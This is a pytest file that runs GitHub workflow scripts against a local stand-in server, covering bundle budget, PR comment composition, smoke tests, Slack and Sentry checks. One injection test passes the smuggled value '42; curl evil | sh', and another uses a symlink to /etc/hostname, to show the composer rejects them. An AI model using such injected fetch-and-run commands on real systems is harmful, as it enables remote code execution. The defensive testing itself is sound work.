"""The scripts inside the workflows, run for real on this machine: the bundle budget, the
plan-diff comment composer, the smoke test, the Slack notification and the Sentry error-rate
watch. Network use is a local HTTP server on 127.0.0.1 standing in for the site, Slack and
Sentry; ``sleep`` is replaced by a recorder so retry loops run at once (and their bounds show).

Each script is taken from the shipped workflow file, so these tests break when the workflow's
script changes in a way that breaks its behaviour.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import threading
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass, field
from datetime import datetime, timezone
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any, Optional
from urllib.parse import parse_qs, urlsplit

import pytest

from tests.workflows.shared import APP_WORKFLOWS, OWN_WORKFLOWS, load_yaml

CI = APP_WORKFLOWS / "ci.yml"
DEPLOY = APP_WORKFLOWS / "deploy.yml"
PR_COMMENT = OWN_WORKFLOWS / "pr-comment.yml"
GITHUB_COMMENT_LIMIT = 65_536
SCRIPT_TIMEOUT = 60


def step(path: Path, job_id: str, name: str) -> Mapping[str, Any]:
    return next(s for s in load_yaml(path)["jobs"][job_id]["steps"] if s.get("name") == name)


@dataclass
class Runner:
    """Runs a workflow step's script the way a GitHub-hosted runner does, in ``workdir``."""

    workdir: Path
    sleep_log: Path
    bin_dir: Path

    def run(self, script: str, env: Mapping[str, str], shell: str = "bash") -> subprocess.CompletedProcess[str]:
        script_file = self.workdir / ("step.py" if shell == "python" else "step.sh")
        script_file.write_text(script, encoding="utf-8")
        command = [sys.executable, str(script_file)] if shell == "python" else [
            "bash", "--noprofile", "--norc", "-eo", "pipefail", str(script_file)
        ]
        full_env = {
            "PATH": f"{self.bin_dir}{os.pathsep}{os.environ['PATH']}",
            "HOME": str(self.workdir),
            "RUNNER_TEMP": str(self.workdir),
            "GITHUB_OUTPUT": str(self.workdir / "github_output"),
            "GITHUB_STEP_SUMMARY": str(self.workdir / "step_summary"),
            "GITHUB_SERVER_URL": "https://github.com",
            "GITHUB_REPOSITORY": "acme/webapp",
            "GITHUB_RUN_ID": "1234",
            "GITHUB_REF_NAME": "v1.2.3",
            "GITHUB_SHA": "0123456789abcdef0123456789abcdef01234567",
            **env,
        }
        return subprocess.run(
            command, cwd=self.workdir, env=full_env, capture_output=True, text=True, timeout=SCRIPT_TIMEOUT, check=False
        )

    def outputs(self) -> dict[str, str]:
        path = self.workdir / "github_output"
        lines = path.read_text(encoding="utf-8").splitlines() if path.exists() else []
        return dict(line.split("=", 1) for line in lines if "=" in line)

    def sleeps(self) -> list[str]:
        return self.sleep_log.read_text(encoding="utf-8").split() if self.sleep_log.exists() else []


@pytest.fixture
def runner(tmp_path: Path) -> Runner:
    """A work directory and a ``sleep`` that records its argument and returns at once."""
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    sleep_log = tmp_path / "sleeps.log"
    fake_sleep = bin_dir / "sleep"
    fake_sleep.write_text(f'#!/bin/sh\necho "$1" >> "{sleep_log}"\n', encoding="utf-8")
    fake_sleep.chmod(0o755)
    workdir = tmp_path / "work"
    workdir.mkdir()
    return Runner(workdir, sleep_log, bin_dir)


@dataclass
class Recorded:
    """A request the local server received."""

    method: str
    path: str
    query: dict[str, list[str]]
    headers: dict[str, str]
    body: bytes


@dataclass
class LocalServer:
    """An HTTP server on 127.0.0.1 answering with ``respond(request) -> (status, body)``."""

    respond: Callable[[Recorded], tuple[int, bytes]]
    requests: list[Recorded] = field(default_factory=list)
    url: str = ""


@pytest.fixture
def local_server() -> Iterator[Callable[[Callable[[Recorded], tuple[int, bytes]]], LocalServer]]:
    servers: list[ThreadingHTTPServer] = []

    def start(respond: Callable[[Recorded], tuple[int, bytes]]) -> LocalServer:
        state = LocalServer(respond)

        class Handler(BaseHTTPRequestHandler):
            def _handle(self) -> None:
                length = int(self.headers.get("Content-Length") or 0)
                parts = urlsplit(self.path)
                request = Recorded(
                    self.command, parts.path, parse_qs(parts.query), dict(self.headers), self.rfile.read(length)
                )
                state.requests.append(request)
                status, body = state.respond(request)
                self.send_response(status)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            do_GET = do_POST = _handle  # noqa: N815

            def log_message(self, format: str, *args: Any) -> None:  # noqa: A002
                pass

        server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        servers.append(server)
        threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True).start()
        state.url = f"http://127.0.0.1:{server.server_address[1]}"
        return state

    yield start
    for server in servers:
        server.shutdown()
        server.server_close()


# --- bundle budget (ci.yml, build job) -----------------------------------------------------------


@pytest.mark.parametrize(
    ("files", "ok", "expected"),
    [
        ({"dist/assets/index.js": 150_000, "dist/assets/index.css": 20_000, "dist-staging/assets/index.js": 150_000}, True, "170000 bytes"),
        ({"dist/assets/vendor.js": 600_000, "dist-staging/assets/index.js": 1_000}, False, "over the bundle budget"),
        ({"dist/assets/index.js": 1_000, "dist/assets/index.js.map": 900_000, "dist-staging/assets/index.js": 1_000}, True, "1000 bytes"),
        ({"dist/index.html": 500, "dist-staging/assets/index.js": 1_000}, False, "holds no JavaScript or CSS"),
    ],
    ids=["under-budget", "over-budget", "source-maps-not-counted", "no-assets"],
)
def test_bundle_budget(runner: Runner, files: dict[str, int], ok: bool, expected: str) -> None:
    for name, size in files.items():
        path = runner.workdir / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(os.urandom(size))
    budget = load_yaml(CI)["jobs"]["build"]["env"]["BUNDLE_BUDGET_BYTES"]
    assert budget == str(512 * 1024)
    result = runner.run(step(CI, "build", "Check the bundle budget (fail over 512 KB)")["run"], {"BUNDLE_BUDGET_BYTES": budget})
    assert (result.returncode == 0) is ok, result.stdout + result.stderr
    assert expected in result.stdout
    assert "budget 524288" in (runner.workdir / "step_summary").read_text(encoding="utf-8")


# --- plan-diff comment composer (pr-comment.yml) -------------------------------------------------

HEAD = "89abcdef0123456789abcdef0123456789abcdef"


def compose(runner: Runner, files: Mapping[str, str], head: str = HEAD, symlink: Optional[str] = None) -> subprocess.CompletedProcess[str]:
    artifact = runner.workdir / "artifact"
    artifact.mkdir(exist_ok=True)
    for name, text in files.items():
        (artifact / name).write_text(text, encoding="utf-8")
    if symlink:
        (artifact / symlink).symlink_to("/etc/hostname")
    script = step(PR_COMMENT, "comment", "Validate the artifact and compose the comment")
    assert script["shell"] == "python"
    return runner.run(script["run"], {"ARTIFACT_DIR": str(artifact), "RUN_HEAD_SHA": head}, shell="python")


VALID_ARTIFACT = {"pr-number.txt": "42\n", "head-sha.txt": HEAD + "\n", "staging.md": "| + | x |\n", "production.md": "no changes\n"}


def test_composer_writes_one_marked_comment(runner: Runner) -> None:
    result = compose(runner, VALID_ARTIFACT)
    assert result.returncode == 0, result.stderr
    outputs = runner.outputs()
    assert outputs["pr_number"] == "42"
    body = Path(outputs["body_file"]).read_text(encoding="utf-8")
    assert body.startswith("<!-- webapp-platform:plan-diff -->\n")
    assert "<b>staging</b>" in body and "| + | x |" in body and "<b>production</b>" in body


def test_composer_caps_the_comment_size(runner: Runner) -> None:
    result = compose(runner, {**VALID_ARTIFACT, "staging.md": "x" * 150_000, "production.md": "y" * 150_000})
    assert result.returncode == 0, result.stderr
    body = Path(runner.outputs()["body_file"]).read_text(encoding="utf-8")
    assert len(body) < GITHUB_COMMENT_LIMIT
    assert body.count("(truncated;") == 2


@pytest.mark.parametrize(
    ("files", "head", "symlink", "reason"),
    [
        ({**VALID_ARTIFACT, "pr-number.txt": "42; curl evil | sh"}, HEAD, None, "pull-request number"),
        ({**VALID_ARTIFACT, "pr-number.txt": "0"}, HEAD, None, "pull-request number"),
        ({**VALID_ARTIFACT, "pr-number.txt": "-1"}, HEAD, None, "pull-request number"),
        (VALID_ARTIFACT, "f" * 40, None, "does not match the commit"),
        ({k: v for k, v in VALID_ARTIFACT.items() if k != "production.md"}, HEAD, "production.md", "not a regular file"),
        ({k: v for k, v in VALID_ARTIFACT.items() if k != "staging.md"}, HEAD, None, "staging.md is missing"),
    ],
    ids=["injection", "zero", "negative", "head-mismatch", "symlink", "missing-file"],
)
def test_composer_refuses_untrusted_input(
    runner: Runner, files: dict[str, str], head: str, symlink: Optional[str], reason: str
) -> None:
    result = compose(runner, files, head=head, symlink=symlink)
    assert result.returncode != 0
    assert reason in result.stderr
    assert "body_file" not in runner.outputs()


# --- smoke test (deploy.yml, both jobs) ----------------------------------------------------------

ENTRY = '<script type="module" crossorigin src="/assets/index-NEW.js"></script>'


@pytest.mark.parametrize("job_id", ["staging", "production"])
@pytest.mark.parametrize(
    ("served_index", "asset_status", "ok", "sleeps"),
    [
        (ENTRY, 200, True, 0),
        (ENTRY.replace("NEW", "OLD"), 200, False, 10),
        (ENTRY, 404, False, 0),
    ],
    ids=["new-build-live", "old-build-stays", "entry-asset-missing"],
)
def test_smoke_test(
    runner: Runner, local_server: Callable[..., LocalServer], job_id: str, served_index: str, asset_status: int, ok: bool, sleeps: int
) -> None:
    built = runner.workdir / ".vercel" / "output" / "static" / "index.html"
    built.parent.mkdir(parents=True)
    built.write_text(f"<html><head>{ENTRY}</head></html>", encoding="utf-8")

    def site(request: Recorded) -> tuple[int, bytes]:
        if request.path == "/":
            return 200, f"<html><head>{served_index}</head></html>".encode()
        return (asset_status, b"console.log(1)") if request.path == "/assets/index-NEW.js" else (404, b"")

    server = local_server(site)
    result = runner.run(step(DEPLOY, job_id, "Smoke test")["run"], {"APP_URL": server.url + "/"})
    assert (result.returncode == 0) is ok, result.stdout + result.stderr
    assert len(runner.sleeps()) == sleeps
    if not ok and sleeps:
        assert "did not serve the new build after 10 attempts" in result.stdout


# --- Slack notification (deploy.yml, both jobs) --------------------------------------------------


@pytest.mark.parametrize(("job_id", "status", "icon"), [("staging", "success", ":white_check_mark:"), ("production", "failure", ":x:")])
def test_slack_notification(runner: Runner, local_server: Callable[..., LocalServer], job_id: str, status: str, icon: str) -> None:
    server = local_server(lambda request: (200, b"ok"))
    notify = step(DEPLOY, job_id, "Notify Slack")
    env = {
        "SLACK_WEBHOOK_URL": f"{server.url}/services/T000/B000/XXXX",
        "JOB_STATUS": status,
        "TARGET": notify["env"]["TARGET"],
        "APP_URL": "https://example.com",
        "DEPLOY_URL": "https://webapp-abc.vercel.app",
    }
    result = runner.run(notify["run"], env)
    assert result.returncode == 0, result.stderr
    (request,) = server.requests
    assert request.method == "POST" and request.headers["Content-Type"] == "application/json"
    text = json.loads(request.body)["text"]
    assert text.startswith(icon)
    assert f"to {job_id}: {status}" in text
    assert "/services/T000" not in text, "the webhook URL is a secret"


# --- Sentry error-rate watch (deploy.yml, production) --------------------------------------------

DEPLOYED_EPOCH = 1_790_000_000
DEPLOYED_ISO = datetime.fromtimestamp(DEPLOYED_EPOCH, tz=timezone.utc).strftime("%Y-%m-%dT%H:%M:%SZ")


def sentry(baseline: int, after: int, token: str) -> Callable[[Recorded], tuple[int, bytes]]:
    """A fake Sentry API: project lookup, and error counts before/after the deploy."""

    def respond(request: Recorded) -> tuple[int, bytes]:
        if request.headers.get("Authorization") != f"Bearer {token}":
            return 401, b'{"detail": "unauthorized"}'
        if request.path == "/api/0/projects/acme/webapp-production/":
            return 200, json.dumps({"id": "4242", "slug": "webapp-production"}).encode()
        if request.path == "/api/0/organizations/acme/events/":
            query = {key: values[0] for key, values in request.query.items()}
            expected = {"field": "count()", "project": "4242", "environment": "production", "query": "event.type:error"}
            if any(query.get(k) != v for k, v in expected.items()):
                return 400, json.dumps({"detail": f"unexpected query {query}"}).encode()
            before = query["end"] == DEPLOYED_ISO  # the span that ends when the deploy started
            if not before and query["start"] != DEPLOYED_ISO:
                return 400, json.dumps({"detail": f"watch must count from the deploy, not {query['start']}"}).encode()
            return 200, json.dumps({"data": [{"count()": baseline if before else after}]}).encode()
        return 404, b"{}"

    return respond


@pytest.mark.parametrize(
    ("baseline", "after", "ok", "minutes"),
    [(0, 3, True, 5), (0, 50, False, 1), (1200, 30, True, 5), (1200, 500, False, 1)],
    ids=["quiet", "error-burst", "busy-app-normal-rate", "busy-app-spike"],
)
def test_sentry_error_rate_watch(
    runner: Runner, local_server: Callable[..., LocalServer], baseline: int, after: int, ok: bool, minutes: int
) -> None:
    token = "sntryu_test_token"  # a made-up value for the fake server
    server = local_server(sentry(baseline, after, token))
    watch = step(DEPLOY, "production", "Watch the Sentry error rate for 5 minutes")
    env = {
        "SENTRY_API": f"{server.url}/api/0",
        "SENTRY_AUTH_TOKEN": token,
        "SENTRY_ORG": "acme",
        "SENTRY_PROJECT": "webapp-production",
        "SENTRY_ENVIRONMENT": "production",
        "DEPLOY_STARTED_EPOCH": str(DEPLOYED_EPOCH),
        "MIN_ERRORS_TO_FAIL": watch["env"]["MIN_ERRORS_TO_FAIL"],
    }
    result = runner.run(watch["run"], env)
    assert (result.returncode == 0) is ok, result.stdout + result.stderr
    assert runner.sleeps() == ["60"] * minutes
    assert all(request.path != "/" for request in server.requests)
    assert token not in result.stdout + result.stderr
    if not ok:
        assert "error rate after the deploy is too high" in result.stdout
